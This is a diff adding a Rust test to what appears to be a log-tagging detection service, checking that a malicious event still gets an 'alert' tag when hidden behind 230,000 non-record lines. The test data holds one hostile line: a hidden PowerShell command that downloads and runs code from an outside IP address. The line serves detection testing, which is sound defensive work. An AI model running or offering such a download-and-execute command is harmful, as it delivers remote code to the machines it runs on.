@@ -67,3 +67,25 @@ fn events_of_vector_are_tagged_and_what_is_no_json_is_mended() {
         assert!(metrics.lines().any(|other| other == line), "{line}\n{metrics}");
     }
 }
+
+#[test]
+fn an_alert_among_very_many_lines_that_are_no_records_keeps_its_tag() {
+    let Some(module) = module("an_alert_among_very_many_lines_that_are_no_records_keeps_its_tag") else {
+        return;
+    };
+    let hop = Hop::start(&format!("--max-body 500000 --module {}", module.display()));
+    let malicious = vector_event(1, "powershell.exe", "-w hidden -c IEX (iwr http://203.0.113.9/a)");
+    let body = "1\n".repeat(230_000) + &malicious.to_string();
+    let answer = post(hop.address, "application/x-ndjson", body.as_bytes()).unwrap();
+    assert_eq!((answer.status, answer.header("schtag-untagged")), (200, Some("repaired")));
+    let text = answer.text();
+    let mut lines = text.lines();
+    let alert: Value = serde_json::from_str(lines.next_back().unwrap()).unwrap();
+    assert_eq!(alert["schtag"]["verdict"], "alert");
+    let repaired = lines.clone().take_while(|line| line.contains("\"repaired\"")).count();
+    assert_eq!(repaired, 10_000);
+    assert_eq!(lines.skip(repaired).filter(|line| *line == "{\"log\":\"1\"}").count(), 220_000);
+    let metrics = get(hop.address, "/metrics").text();
+    let line = "schtag_untagged_events_total{limit=\"repaired\"} 220000";
+    assert!(metrics.lines().any(|other| other == line), "{metrics}");
+}
